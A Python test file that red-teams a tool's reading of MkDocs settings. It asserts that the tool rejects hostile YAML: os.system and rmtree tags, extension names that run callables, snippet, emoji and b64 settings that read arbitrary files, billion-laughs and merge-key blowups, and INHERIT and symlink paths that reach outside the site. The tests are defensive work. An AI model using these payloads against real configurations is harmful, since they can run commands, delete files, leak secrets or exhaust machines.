        "markdown_extensions:\n  - toc:\n      slugify: !!python/name:os.system\n",
        "markdown_extensions:\n  - toc:\n      slugify: !!python/object/new:os.system [echo]\n",
    ):
        config = tmp_path / "mkdocs.yml"
        config.write_text(text, encoding="utf-8")
        site_markdown.cache_clear()
        assert site_markdown(config) is None, text
        assert not marker.exists(), text
    site_markdown.cache_clear()
    own = site_markdown(Path(__file__).resolve().parents[1] / "mkdocs.yml")
    assert 'id="运行-报错"' in own("## 运行 报错\n")
    site_markdown.cache_clear()


@pytest.mark.parametrize(
    "extensions",
    [
        "  - 'os:mkdir':\n      path: {marker}\n",  # Markdown calls ``module:Callable`` with the extension's settings
        "  - toc:\n      slugify: !!python/name:material.plugins.blog.plugin.rmtree\n",  # shutil's, imported there
        "  - toc:\n      slugify: !!python/name:markdown.__main__.yaml_load\n",  # yaml.unsafe_load, imported there
    ],
)
def test_a_site_s_settings_name_no_python_markdown_would_call_but_its_extensions(tmp_path, extensions):
    """Red team round 37: the safe loader's names still reached Python that runs anything. An extension's name is a
    module Markdown imports, and ``module:Callable`` a callable it calls with the settings (``os:system`` ran a command);
    a name under ``material.`` may be a function imported there from elsewhere (``material.plugins.blog.plugin.rmtree``
    is shutil's, and toc called it with a heading's text: ``## /home/me`` deleted that folder)."""
    from errata.contribution import site_markdown

    marker = tmp_path / "ran"
    victim = tmp_path / "victim"
    (victim / "b").mkdir(parents=True)
    config = tmp_path / "mkdocs.yml"
    config.write_text("markdown_extensions:\n" + extensions.format(marker=str(marker)), encoding="utf-8")
    site_markdown.cache_clear()
    try:
        to_html = site_markdown(config)
        if to_html is not None:
            try:
                to_html(f"## {victim}\n")
            except Exception:  # noqa: BLE001 - what a hostile slug function raises is not the point
                pass
        assert to_html is None and not marker.exists() and victim.exists()
    finally:
        site_markdown.cache_clear()


def test_the_check_reads_no_file_a_site_s_settings_name_through_snippets(tmp_path):
    """Red team round 37, left open then: settings that switch on ``pymdownx.snippets`` with a root base path made the
    check read any file a page names (a missing one ended the check in a traceback, telling whether it exists). The check
    builds its Markdown without the extensions that put other files' text in a page."""
    from errata.contribution import site_markdown

    secret = tmp_path / "secret.txt"
    secret.write_text("## 机密 KeyError: 'x'\n", encoding="utf-8")
    config = tmp_path / "mkdocs.yml"
    try:
        # The module's name and its class's after a colon are the same extension.
        for name in ("pymdownx.snippets", "pymdownx.snippets:SnippetExtension"):
            config.write_text(f"markdown_extensions:\n  - toc\n  - {name}:\n      base_path: ['/']\n      check_paths: true\n", encoding="utf-8")
            site_markdown.cache_clear()
            to_html = site_markdown(config)
            assert to_html is not None, name
            page = to_html(f"--8<-- \"{secret}\"\n\n--8<-- \"/no/such/file\"\n")
            assert "机密" not in page, name
    finally:
        site_markdown.cache_clear()


def _hangs(code: str, seconds: float = 20) -> bool:
    """Whether Python running ``code`` is still busy after ``seconds`` (killed then), its stdin an open pipe."""
    import errata

    source = str(Path(errata.__file__).resolve().parents[1])  # the errata the tests import
    process = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, cwd=ROOT, env={**os.environ, "PYTHONPATH": source})
    try:
        process.wait(seconds)
        return False
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait()
        return True
    finally:
        process.stdin.close()


@pytest.mark.parametrize("inherit", ["laughs", "stdin"])
def test_a_site_s_settings_that_inherit_never_hang_the_check(tmp_path, inherit):
    """Red team round 38: MkDocs merges an ``INHERIT``ed file's settings into the child's down every path, and aliases
    that nest (``l1: &l1 {a: *l0, b: *l0}``) made two files of 2 KB take 2⁴⁰ steps; ``INHERIT: /dev/stdin`` waited for
    input for ever. The check reads neither: no site Markdown, no anchor check (the build says why)."""
    laughs = ["l0: &l0 {a: v, b: v}"] + [f"l{i}: &l{i} {{a: *l{i - 1}, b: *l{i - 1}}}" for i in range(1, 40)]
    if inherit == "laughs":
        (tmp_path / "base.yml").write_text("\n".join(laughs) + "\n", encoding="utf-8")
        text = "INHERIT: base.yml\nsite_name: x\n" + "\n".join(laughs) + "\n"
    else:
        text = "INHERIT: /dev/stdin\nsite_name: x\n"
    config = tmp_path / "mkdocs.yml"
    config.write_text(text, encoding="utf-8")
    assert not _hangs(f"from pathlib import Path\nfrom errata.contribution import site_markdown\nassert site_markdown(Path({str(config)!r})) is None\n")


def test_a_site_s_settings_make_the_check_read_no_file_through_emoji_or_b64(tmp_path):
    """Red team round 38: besides snippets, two extensions read files a site's settings point at. Material's emoji index
    reads every ``*.svg`` under the folders ``custom_icons`` names (``/``: the whole disk, minutes), and a page's
    ``:name:`` reads that file whole (a link to /dev/zero: memory until the machine gives out); ``pymdownx.b64`` reads
    each file an ``<img src>`` names. The check's Markdown reads none of them; a broken slug function is a problem, no
    traceback."""
    from errata.contribution import check_files, site_markdown

    (tmp_path / "icons").mkdir()
    (tmp_path / "icons" / "red38-secret.svg").write_text("<svg><title>机密</title></svg>\n", encoding="utf-8")
    (tmp_path / "secret.png").write_bytes(b"\x89PNG secret")
    config = tmp_path / "mkdocs.yml"
    icons = (
        "  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
        f"      emoji_generator: !!python/name:material.extensions.emoji.to_svg\n      options:\n        custom_icons: [{str(tmp_path / 'icons')!r}]\n"
    )
    try:
        for extension in (icons, f"  - pymdownx.b64:\n      base_path: {str(tmp_path)!r}\n"):
            config.write_text("markdown_extensions:\n  - toc\n" + extension, encoding="utf-8")
            site_markdown.cache_clear()
            page = site_markdown(config)('表情 :red38-secret: 与图 <img src="secret.png">\n')
            assert "机密" not in page and "base64" not in page, extension
        config.write_text("markdown_extensions:\n  - toc:\n      slugify: !!python/name:pymdownx.slugs.slugify\n", encoding="utf-8")
        site_markdown.cache_clear()
        (tmp_path / "a.md").write_text(essay(body="## ModuleNotFoundError: No module named 'cv2'\n\n### 解决方案\n\npip install opencv-python\n"), encoding="utf-8")
        problems = check_files([tmp_path / "a.md"], None)
        assert [p.rule for p in problems if p.rule == "site-config"] == ["site-config"], problems
    finally:
        site_markdown.cache_clear()


def test_a_site_s_settings_whose_merge_keys_chain_never_hang_the_check(tmp_path):
    """Red team round 39: YAML's merge keys copy a mapping's pairs into the next while the file loads (``m2: &m2 {<<:
    *m1, k2: 1}`` …), so a chain of them costs the square of its length before the check counts a value: 4,000 lines
    (143 KB) took 30 s and 340 MB, 8,000 two minutes. The loader gives up at the check's budget of values."""
    lines = ["site_name: x", "m0: &m0 {k0: 1}"] + [f"m{i}: &m{i} {{<<: *m{i - 1}, k{i}: 1}}" for i in range(1, 8000)]
    config = tmp_path / "mkdocs.yml"
    config.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert not _hangs(f"from pathlib import Path\nfrom errata.contribution import site_markdown\nassert site_markdown(Path({str(config)!r})) is None\n")
    config.write_text("base: &base {permalink: true}\nmarkdown_extensions:\n  - toc:\n      <<: *base\n      toc_depth: 3\n", encoding="utf-8")
    from errata.contribution import site_markdown

    site_markdown.cache_clear()
    try:
        assert 'class="headerlink"' in site_markdown(config)("## 标题\n")
    finally:
        site_markdown.cache_clear()


def test_a_site_s_settings_are_read_once_each_and_at_most_so_long(tmp_path):
    """Red team round 39: a settings file that ``INHERIT``s itself was parsed nine times before the depth limit (200 KB:
    21 s); MkDocs never ends on it. A file of the chain read again, or the chain's files longer than the check reads
    together, are settings the check does not read."""
    from errata.contribution import _MAX_SETTING_CHARACTERS, _site_settings

    config = tmp_path / "mkdocs.yml"
    config.write_text("INHERIT: ./sub/../mkdocs.yml\nsite_name: x\n", encoding="utf-8")
    (tmp_path / "sub").mkdir()
    with pytest.raises(ValueError, match="themselves"):
        _site_settings(config, yaml.SafeLoader)
    half = "x: '" + "a" * (_MAX_SETTING_CHARACTERS // 2) + "'\n"
    (tmp_path / "base.yml").write_text(half, encoding="utf-8")
    config.write_text("INHERIT: base.yml\n" + half, encoding="utf-8")
    with pytest.raises(ValueError, match="too long"):
        _site_settings(config, yaml.SafeLoader)
    config.write_text("INHERIT: base.yml\nsite_name: x\n", encoding="utf-8")
    assert _site_settings(config, yaml.SafeLoader)["site_name"] == "x"


@pytest.mark.parametrize("inherit", ["../outside.yml", "ABSOLUTE", "link.yml"])
def test_a_site_s_settings_inherit_from_nothing_outside_its_folder(tmp_path, inherit):
    """Red team round 39: ``INHERIT`` could name any YAML file of the machine (an absolute path, ``../``, a link), and
    the check learnt whether it exists and parses. Settings that inherit from outside the site's folder give no site
    Markdown: the check leaves the entries' anchors to the build."""
    from errata.contribution import site_markdown

    outside = tmp_path / "outside.yml"
    outside.write_text("markdown_extensions:\n  - toc\n", encoding="utf-8")
    site = tmp_path / "site"
    site.mkdir()
    (site / "link.yml").symlink_to(outside)
    target = str(outside) if inherit == "ABSOLUTE" else inherit
    (site / "mkdocs.yml").write_text(f"INHERIT: {target}\nsite_name: x\n", encoding="utf-8")
    site_markdown.cache_clear()
    try:
        assert site_markdown(site / "mkdocs.yml") is None
        (site / "base.yml").write_text("markdown_extensions:\n  - toc\n", encoding="utf-8")
        (site / "mkdocs.yml").write_text("INHERIT: base.yml\nsite_name: x\n", encoding="utf-8")
        site_markdown.cache_clear()
        assert site_markdown(site / "mkdocs.yml") is not None  # inside the folder, as before
    finally:
        site_markdown.cache_clear()


def test_a_site_config_linked_to_a_file_outside_the_site_is_not_read(tmp_path):
    """Red team 40: a pull request could make ``mkdocs.yml`` a link to any file of the machine, and the check read it:
    its problems told whether that file exists and parses. A link that stays in the site's folder is still read."""
    from errata.contribution import site_config_of

    site, outside = tmp_path / "site", tmp_path / "secret.yml"
    (site / "docs").mkdir(parents=True)
    outside.write_text("docs_dir: elsewhere\nmarkdown_extensions: [toc]\n", encoding="utf-8")
    essay = site / "docs" / "a.md"
    essay.write_text("# A\n", encoding="utf-8")
    (site / "mkdocs.yml").symlink_to(outside)
    assert site_config_of(essay) is None
    (site / "mkdocs.yml").unlink()
    (site / "config").mkdir()
    (site / "config" / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
    (site / "mkdocs.yml").symlink_to(site / "config" / "mkdocs.yml")
    assert site_config_of(essay).resolve() == (site / "config" / "mkdocs.yml").resolve()


def test_a_docs_dir_outside_the_site_tells_nothing_of_files_there(tmp_path):
    """Red team 41: ``docs_dir: ../..`` in a plain ``mkdocs.yml`` made the check resolve an essay's links against
    folders outside the site, and tell by "does not exist" which files there exist. Such a site has no docs folder the
    check can tell, and its links must stay in the site's own folder."""
    from errata.contribution import check_files

    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "exists.md").write_text("# secret\n", encoding="utf-8")
    site = tmp_path / "repo" / "site"
    (site / "docs").mkdir(parents=True)
    (site / "mkdocs.yml").write_text("site_name: x\ndocs_dir: ../..\n", encoding="utf-8")
    essay = site / "docs" / "a.md"
    messages = []
    for target in ("exists.md", "missing.md"):
        essay.write_text(f"---\ntitle: 测试\n---\n# 测试\n\n见 [这里](../../../private/{target})。\n", encoding="utf-8")
        messages.append([p.message.replace(target, "X") for p in check_files([essay]) if p.rule == "link"])
    assert messages[0] == messages[1] and "outside" in messages[0][0]
